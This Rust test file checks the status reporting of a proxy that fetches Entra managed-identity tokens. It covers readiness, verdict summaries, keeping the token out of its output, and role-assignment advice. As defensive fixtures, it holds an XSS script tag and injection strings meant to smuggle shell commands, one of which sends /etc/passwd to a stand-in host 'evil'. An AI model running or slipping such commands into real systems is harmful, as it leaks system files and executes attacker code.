//! What the proxy says of itself.

mod common;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use common::{START, answer, at, exchange, slot, token};
use entra_token_core::Now;
use entra_token_core::config::SlotSpec;
use entra_token_core::page;
use entra_token_core::slot::Slot;
use entra_token_core::state::State;
use entra_token_core::status::{NoToken, Process, Status, TokenState, Unavailable, Verdict, json};
use entra_token_core::target_responses::{Refused, Tally, TargetResponses};
#[cfg(all(target_family = "wasm", target_os = "unknown"))]
use wasm_bindgen_test::wasm_bindgen_test as test;

fn spec(required: Option<bool>) -> SlotSpec {
    SlotSpec {
        required,
        ..common::spec()
    }
}

fn with_token() -> Slot {
    let mut slot = slot();
    exchange(&mut slot, START, token("a-secret-token", 3600));
    slot
}

fn failing() -> Slot {
    let mut slot = slot();
    let body = r#"{"error":"invalid_request","error_description":"Identity not found"}"#;
    exchange(&mut slot, START, answer(400, body));
    slot
}

fn status(slots: &[(Option<bool>, &Slot)]) -> Status {
    let specs: Vec<_> = slots.iter().map(|(required, _)| spec(*required)).collect();
    let states = slots.iter().map(|(_, slot)| slot.state());
    let slots: Vec<_> = specs.iter().zip(states).collect();
    Status::of(&slots, &[], &Process::default(), at(1.0))
}

#[test]
fn ready_means_that_requests_can_be_authorised() {
    let (good, bad) = (with_token(), failing());
    let required = Some(true);
    let optional = Some(false);
    for (slots, ready) in [
        (vec![(None, &good)], true),
        (vec![(None, &bad)], false),
        (vec![(required, &bad)], false),
        (vec![(optional, &bad)], true),
        (vec![(None, &good), (None, &bad)], true),
        (vec![(None, &bad), (None, &bad)], false),
        (vec![(required, &good), (None, &bad)], true),
        (vec![(required, &bad), (None, &good)], false),
        (vec![(required, &good), (required, &bad)], false),
        (vec![(optional, &good), (None, &bad)], false),
    ] {
        assert_eq!(status(&slots).ready, ready, "{slots:?}");
    }
}

#[test]
fn without_details_ready_has_the_code_of_what_keeps_it_from_that_and_nothing_else() {
    let (good, bad, new) = (with_token(), failing(), slot());
    let mut forbidden = slot();
    exchange(&mut forbidden, START, answer(403, ""));
    let required = Some(true);
    for (slots, expected) in [
        (vec![(None, &good)], r#"{"ready":true}"#),
        (vec![(None, &good), (None, &bad)], r#"{"ready":true}"#),
        (vec![(None, &new)], r#"{"ready":false}"#),
        (
            vec![(None, &bad)],
            r#"{"ready":false,"code":"identity_not_found"}"#,
        ),
        (
            vec![(None, &new), (None, &bad)],
            r#"{"ready":false,"code":"identity_not_found"}"#,
        ),
        // That of a slot which decides.
        (
            vec![(None, &forbidden), (required, &good), (required, &bad)],
            r#"{"ready":false,"code":"identity_not_found"}"#,
        ),
    ] {
        let told = json(&status(&slots).without_details());
        assert_eq!(String::from_utf8_lossy(&told), expected, "{slots:?}");
    }
}

#[test]
fn the_state_of_a_token_is_told_with_its_expiry_and_without_the_token() {
    let (slot, spec) = (with_token(), spec(None));
    let status = Status::of(&[(&spec, slot.state())], &[], &Process::default(), at(10.0));
    assert_eq!(status.slots[0].state, TokenState::Valid);
    let text = String::from_utf8(json(&status)).expect("JSON");
    for expected in [
        r#""generation":1"#,
        r#""expiresOn":"2026-09-21T15:13:20Z""#,
        r#""expiresInSeconds":3590"#,
    ] {
        assert!(text.contains(expected), "{text}");
    }
    assert!(!text.contains("secret"), "{text}");
    let status = Status::of(
        &[(&spec, slot.state())],
        &[],
        &Process::default(),
        at(3600.0),
    );
    assert_eq!(
        (status.slots[0].state, status.ready),
        (TokenState::Expired, false)
    );
}

#[test]
fn a_failure_is_told_with_its_code_and_what_to_do() {
    let (slot, spec) = (failing(), spec(None));
    let text = String::from_utf8(json(&Status::of(
        &[(&spec, slot.state())],
        &[],
        &Process::default(),
        at(1.0),
    )))
    .expect("JSON");
    for expected in [
        r#""state":"waiting""#,
        r#""code":"identity_not_found""#,
        "Identity not found",
        "Assign the managed identity",
        r#""settings":["identities[0].type","identities[0].clientId"]"#,
        r#""consecutiveFailures":1"#,
    ] {
        assert!(text.contains(expected), "{text}");
    }
}

#[test]
fn a_request_without_a_token_learns_why_and_when_to_come_back() {
    let slot = failing();
    let answer = Unavailable::new(NoToken::HeldTooLong, slot.state(), at(1.0));
    assert_eq!(
        answer.retry_after, 30,
        "the next attempt is 30 to 60 s away; 30 s is the bound"
    );
    let text = String::from_utf8(json(&answer)).expect("JSON");
    // Clients need not know of the identity, nor of what the endpoint said.
    assert_eq!(
        text,
        r#"{"error":{"code":"token_unavailable","message":"no token that may be sent came in time","reason":"identity_not_found"}}"#
    );
    let waiting = Unavailable::new(NoToken::TooManyHeld, &State::default(), at(1.0));
    assert_eq!(waiting.retry_after, 1);
}

#[test]
fn a_renewal_that_fails_is_told_as_that_with_the_time_until_which_requests_go_on() {
    let (mut slot, spec) = (with_token(), spec(None));
    exchange(&mut slot, at(3300.0), answer(500, ""));
    let told = |now| {
        let status = Status::of(&[(&spec, slot.state())], &[], &Process::default(), now);
        let text = String::from_utf8(json(&status)).expect("JSON");
        (text, page::render(&status))
    };
    // The token ends at 15:13:20, and is sent until 5 s before that.
    let meanwhile = "requests go on with the token in hand until 15:13:15 UTC (4 min)";
    let (text, page) = told(at(3310.0));
    assert!(
        text.contains(&format!(r#""meanwhile":"{meanwhile}""#)),
        "{text}"
    );
    assert!(page.contains(&format!("Meanwhile {meanwhile}.")), "{page}");
    let (text, page) = told(at(3596.0));
    assert!(!text.contains("meanwhile"), "{text}");
    assert!(!page.contains("Meanwhile"), "{page}");
}

#[test]
fn the_page_escapes_what_a_server_said() {
    let mut slot = slot();
    let body = r#"{"error":"<script>alert(1)</script>","error_description":"a & \"b\""}"#;
    exchange(&mut slot, START, answer(400, body));
    let spec = spec(None);
    let page = page::render(&Status::of(
        &[(&spec, slot.state())],
        &[],
        &Process::default(),
        at(1.0),
    ));
    assert!(page.contains("Not serving"), "{page}");
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;: a &amp; &quot;b&quot;"),
        "{page}"
    );
    assert!(!page.contains("<script"), "{page}");
}

/// The status of these slots and of the targets of the first of them, each with its statuses of a second ago.
fn judged(slots: &[&Slot], targets: &[&[u16]], now: Now) -> Status {
    let spec = spec(None);
    let slots: Vec<_> = slots.iter().map(|slot| (&spec, slot.state())).collect();
    let plugin = common::plugin();
    let targets: Vec<_> = targets
        .iter()
        .map(|statuses| {
            let mut tally = Tally::default();
            for status in *statuses {
                tally.responded(*status, 1);
                match status {
                    401 => tally.refused(Refused::Unauthorized),
                    403 => tally.refused(Refused::Forbidden),
                    _ => {}
                }
            }
            let mut responses = TargetResponses::default();
            responses.add(&tally, now.wall);
            (&plugin.targets[0], responses)
        })
        .collect();
    Status::of(&slots, &targets, &Process::default(), now)
}

#[test]
fn the_verdict_is_one_word_and_one_sentence_with_the_consequence() {
    let (good, bad, new) = (with_token(), failing(), slot());
    let mut renewal = with_token();
    exchange(&mut renewal, at(3300.0), answer(500, ""));
    let accepts: &[u16] = &[204];
    for (slots, target, now, verdict, summary) in [
        (
            vec![&good],
            accepts,
            at(60.0),
            Verdict::Serving,
            "Serving: requests get a token that is good until 15:13 UTC (in 59 min) and is renewed before.",
        ),
        (
            vec![&renewal],
            accepts,
            at(3310.0),
            Verdict::OnBorrowedTime,
            "Serving, but the token is not renewed: requests go on until 15:13 UTC (in 4 min), then they get 503.",
        ),
        (
            vec![&good, &renewal],
            accepts,
            at(3310.0),
            Verdict::OnBorrowedTime,
            "Serving, but the token of the identity `default` is not renewed: requests go on until 15:13 UTC (in 4 min), \
             then they get 503.",
        ),
        (
            vec![&good, &bad],
            accepts,
            at(60.0),
            Verdict::Degraded,
            "Degraded: the identity `default` has no token, because every attempt since 14:13 UTC has failed; its \
             requests get 503, the others go on.",
        ),
        (
            vec![&good],
            &[204, 403, 403],
            at(60.0),
            Verdict::Degraded,
            "Degraded: the target a refuses the identity `default`: 2 requests got 403 since 14:14 UTC.",
        ),
        (
            vec![&good],
            &[401],
            at(60.0),
            Verdict::Degraded,
            "Degraded: the target a refuses the identity `default`: 1 request got 401 since 14:14 UTC.",
        ),
        (
            vec![&bad],
            &[],
            at(60.0),
            Verdict::NotServing,
            "Not serving: the identity `default` has no token, because every attempt since 14:13 UTC has failed; its \
             requests get 503.",
        ),
        (
            vec![&new],
            &[],
            at(0.0),
            Verdict::NotServing,
            "Not serving: the first token of the identity `default` is requested; its requests wait for it.",
        ),
        (
            vec![&good],
            &[],
            at(3600.0),
            Verdict::NotServing,
            "Not serving: the token of the identity `default` has expired, and the next one is requested; its requests \
             wait.",
        ),
    ] {
        let status = judged(&slots, &[target], now);
        assert_eq!(
            (status.verdict, status.summary.as_str()),
            (verdict, summary)
        );
        let page = page::render(&status);
        assert!(
            page.contains(&format!("<title>{}: ", verdict.title())),
            "{page}"
        );
    }
}

#[test]
fn a_refusing_target_keeps_the_proxy_ready_and_tells_who_lacks_which_role() {
    let claims = URL_SAFE_NO_PAD.encode(r#"{"oid":"00000000-0000-0000-0000-00000000000d"}"#);
    let mut slot = slot();
    exchange(&mut slot, START, token(&format!("e30.{claims}.s"), 3600));
    let status = judged(&[&slot], &[&[204, 403]], at(60.0));
    assert!(status.ready);
    let refusals = status.targets[0].refusals.as_ref().expect("refusals");
    assert_eq!((refusals.unauthorized, refusals.forbidden), (0, 1));
    assert_eq!(refusals.since.as_deref(), Some("2026-09-21T14:14:20Z"));
    let grant = "az role assignment create --role \"Monitoring Metrics Publisher\" --assignee-object-id \
                 00000000-0000-0000-0000-00000000000d --assignee-principal-type ServicePrincipal --scope <id of the \
                 data collection rule>";
    assert_eq!(refusals.command.as_deref(), Some(grant));
    // A 401 is no missing role.
    let status = judged(&[&slot], &[&[401]], at(60.0));
    let refusals = status.targets[0].refusals.as_ref().expect("refusals");
    assert_eq!(refusals.command, None);
    assert!(
        refusals.advice.contains("check the audience"),
        "{}",
        refusals.advice
    );
}

#[test]
fn the_summary_names_an_identity_that_keeps_the_proxy_from_being_ready_and_no_other() {
    let (new, bad) = (slot(), failing());
    let named = |identity: &str, required| SlotSpec {
        identity: identity.into(),
        ..spec(required)
    };
    let (optional, required) = (
        named("optional", Some(false)),
        named("required", Some(true)),
    );
    let slots = [(&optional, bad.state()), (&required, new.state())];
    let status = Status::of(&slots, &[], &Process::default(), at(1.0));
    assert_eq!(
        status.summary,
        "Not serving: the first token of the identity `required` is requested; its requests wait for it."
    );
}

#[test]
fn a_missing_token_and_a_refusal_are_both_in_the_summary() {
    let status = judged(&[&with_token(), &slot()], &[&[403]], at(60.0));
    assert_eq!(
        status.summary,
        "Degraded: the first token of the identity `default` is requested; its requests wait for it, the others go \
         on; and the target a refuses the identity `default`: 1 request got 403 since 14:14 UTC."
    );
}

#[test]
fn a_moment_of_another_day_has_its_date() {
    let mut slot = slot();
    let body = r#"{"error":"invalid_request","error_description":"Identity not found"}"#;
    exchange(&mut slot, START, answer(400, body));
    let status = judged(&[&slot], &[], at(86_400.0));
    assert!(
        status.summary.contains("since 2026-09-21 14:13 UTC"),
        "{}",
        status.summary
    );
}

/// The token of a hostile endpoint must not get a command onto the page that somebody copies.
#[test]
fn an_object_id_that_is_no_uuid_is_not_in_the_command() {
    for oid in ["x;curl$IFS-d@/etc/passwd$IFS//evil|sh", "$(reboot)", "`id`"] {
        let claims = URL_SAFE_NO_PAD.encode(format!(r#"{{"oid":"{oid}"}}"#));
        let mut slot = slot();
        exchange(&mut slot, START, token(&format!("e30.{claims}.s"), 3600));
        let status = judged(&[&slot], &[&[403]], at(60.0));
        let refusals = status.targets[0].refusals.as_ref().expect("refusals");
        let command = refusals.command.as_deref().expect("a command");
        assert!(
            command.contains("<object id>") && !command.contains(oid),
            "{command}"
        );
    }
}
